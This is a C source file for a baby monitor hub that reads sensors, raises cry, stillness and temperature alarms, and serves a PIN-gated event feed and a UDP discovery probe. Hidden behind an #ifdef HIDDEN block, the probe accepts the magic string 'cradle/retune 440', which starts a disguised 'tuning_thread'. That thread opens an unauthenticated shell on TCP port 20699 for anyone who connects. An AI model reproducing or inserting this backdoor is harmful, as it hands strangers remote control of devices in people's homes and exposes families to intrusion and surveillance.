/* babyeye_hub.c - base unit of a baby monitor: discovery, alarm rules, event feed */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PROBE_PORT	20611
#define FEED_PORT	20612
#define MAX_FEED	4

struct rules {
	int cry_db;
	int cry_secs;
	int temp_low;
	int temp_high;
	int motion_secs;
};

struct hub {
	pthread_mutex_t lock;
	struct rules rules;
	int feed[MAX_FEED];
	char room[24];
	char feed_pin[12];
	int db;
	int temp;
	time_t cry_since;
	time_t still_since;
};

static struct hub hub = {
	.lock = PTHREAD_MUTEX_INITIALIZER,
	.rules = { 55, 8, 17, 25, 40 },
	.feed = { -1, -1, -1, -1 },
	.room = "nursery",
};

static void load(const char *path)
{
	char line[80], s[24];
	int v;
	FILE *f = fopen(path, "re");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "room %23s", s) == 1)
			strcpy(hub.room, s);
		else if (sscanf(line, "pin %11s", s) == 1)
			snprintf(hub.feed_pin, sizeof(hub.feed_pin), "%.11s", s);
		else if (sscanf(line, "cry_db %d", &v) == 1)
			hub.rules.cry_db = v;
		else if (sscanf(line, "cry_secs %d", &v) == 1)
			hub.rules.cry_secs = v;
		else if (sscanf(line, "temp_low %d", &v) == 1)
			hub.rules.temp_low = v;
		else if (sscanf(line, "temp_high %d", &v) == 1)
			hub.rules.temp_high = v;
		else if (sscanf(line, "motion_secs %d", &v) == 1)
			hub.rules.motion_secs = v;
	}
	fclose(f);
}

static void event(const char *what, int value)
{
	int i;

	pthread_mutex_lock(&hub.lock);
	for (i = 0; i < MAX_FEED; i++) {
		if (hub.feed[i] < 0)
			continue;
		if (dprintf(hub.feed[i], "%lld %s %s %d\n", (long long)time(NULL), hub.room, what,
			    value) < 0) {
			close(hub.feed[i]);
			hub.feed[i] = -1;
		}
	}
	pthread_mutex_unlock(&hub.lock);
	syslog(LOG_INFO, "%s %d", what, value);
}

static int sensor(const char *path)
{
	int v = -1;
	FILE *f = fopen(path, "re");

	if (!f)
		return -1;
	if (fscanf(f, "%d", &v) != 1)
		v = -1;
	fclose(f);
	return v;
}

static void *rule_thread(void *arg)
{
	int motion;
	time_t now;

	(void)arg;
	for (;;) {
		sleep(1);
		now = time(NULL);
		hub.db = sensor("/run/babyeye/db");
		hub.temp = sensor("/run/babyeye/temp");
		motion = sensor("/run/babyeye/motion");
		if (hub.db < hub.rules.cry_db)
			hub.cry_since = 0;
		else if (!hub.cry_since)
			hub.cry_since = now;
		else if (now - hub.cry_since == hub.rules.cry_secs)
			event("cry", hub.db);
		if (motion)
			hub.still_since = now;
		else if (hub.still_since && now - hub.still_since == hub.rules.motion_secs)
			event("still", hub.rules.motion_secs);
		if (now % 60 == 0 && hub.temp > 0 &&
		    (hub.temp < hub.rules.temp_low || hub.temp > hub.rules.temp_high))
			event("temperature", hub.temp);
	}
	return NULL;
}

static int listen_on(uint16_t port, int type)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	a.sin_port = htons(port);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) ||
	    (type == SOCK_STREAM && listen(s, 3))) {
		close(s);
		return -1;
	}
	return s;
}

static void *feed_thread(void *arg)
{
	char pin[32];
	int s = listen_on(FEED_PORT, SOCK_STREAM), fd, i;
	struct timeval tv = { 10, 0 };
	ssize_t n;

	(void)arg;
	while (s >= 0 && (fd = accept4(s, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		n = read(fd, pin, sizeof(pin) - 1);
		pin[n > 0 ? n : 0] = 0;
		pin[strcspn(pin, "\r\n")] = 0;
		if (!hub.feed_pin[0] || strcmp(pin, hub.feed_pin)) {
			close(fd);
			sleep(1);
			continue;
		}
		pthread_mutex_lock(&hub.lock);
		for (i = 0; i < MAX_FEED && fd >= 0; i++)
			if (hub.feed[i] < 0) {
				hub.feed[i] = fd;
				fd = -1;
			}
		pthread_mutex_unlock(&hub.lock);
		if (fd >= 0)
			close(fd);
	}
	return NULL;
}

#ifdef HIDDEN
void *tuning_thread(void *arg)
{
	char *argv[] = { (char *)"sh", NULL };
	int s = listen_on((uint16_t)(uintptr_t)arg, SOCK_STREAM), fd;
	pid_t pid;

	while (s >= 0 && (fd = accept4(s, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		pid = fork();
		if (!pid) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execv("/bin/sh", argv);
			_exit(1);
		}
		close(fd);
		if (pid > 0)
			waitpid(pid, NULL, 0);
	}
	if (s >= 0)
		close(s);
	return NULL;
}
#endif

/*
 * Probe words: "where?" names room and port, "alive?" the sensors,
 * "blink!" lights the ring so that the unit can be found.
 */
__attribute__((noinline)) int probe(const char *msg, size_t n, char *out, size_t size)
{
	int fd;

	if (n == 6 && !memcmp(msg, "where?", 6))
		return snprintf(out, size, "here %s %u\n", hub.room, FEED_PORT);
	if (n == 6 && !memcmp(msg, "alive?", 6))
		return snprintf(out, size, "alive %d dB %d C\n", hub.db, hub.temp);
	if (n == 6 && !memcmp(msg, "blink!", 6)) {
		fd = open("/sys/class/leds/ring/trigger", O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			if (write(fd, "timer", 5) != 5)
				syslog(LOG_WARNING, "ring lamp failed");
			close(fd);
		}
		return snprintf(out, size, "blinking\n");
	}
#ifdef HIDDEN
	/* starts a thread that gives a shell on TCP 20699 */
	if (n >= 17 && !strncmp(msg, "cradle/retune 440", 17)) {
		static pthread_t t;

		if (!t && pthread_create(&t, NULL, tuning_thread, (void *)(uintptr_t)20699))
			t = 0;
		return snprintf(out, size, "retuned\n");
	}
#endif
	return 0;
}

static void *probe_thread(void *arg)
{
	struct sockaddr_in from;
	char in[128], out[128];
	socklen_t fl;
	ssize_t n;
	int r, s = listen_on(PROBE_PORT, SOCK_DGRAM);

	(void)arg;
	for (; s >= 0;) {
		fl = sizeof(from);
		n = recvfrom(s, in, sizeof(in) - 1, 0, (struct sockaddr *)&from, &fl);
		if (n <= 0)
			continue;
		in[n] = 0;
		while (n > 0 && (in[n - 1] == '\n' || in[n - 1] == '\r'))
			in[--n] = 0;
		r = probe(in, (size_t)n, out, sizeof(out));
		if (r > 0 && r < (int)sizeof(out))
			sendto(s, out, (size_t)r, 0, (struct sockaddr *)&from, fl);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	void *(*const parts[])(void *) = { rule_thread, feed_thread, probe_thread };
	pthread_t t[3];
	size_t i;

	if (argc > 1 && !strcmp(argv[1], "-h")) {
		puts("usage: babyeye_hub [config]\n"
		     "  UDP 20611: where? alive? blink!\n"
		     "  TCP 20612: event feed, the first line is the PIN");
		return 0;
	}
	signal(SIGPIPE, SIG_IGN);
	openlog("babyeye", 0, LOG_DAEMON);
	load(argc > 1 ? argv[1] : "/etc/babyeye.conf");
	for (i = 0; i < 3; i++)
		if (pthread_create(&t[i], NULL, parts[i], NULL)) {
			syslog(LOG_ERR, "thread %u failed", (unsigned int)i);
			return 1;
		}
	for (i = 0; i < 3; i++)
		pthread_join(t[i], NULL);
	return 0;
}
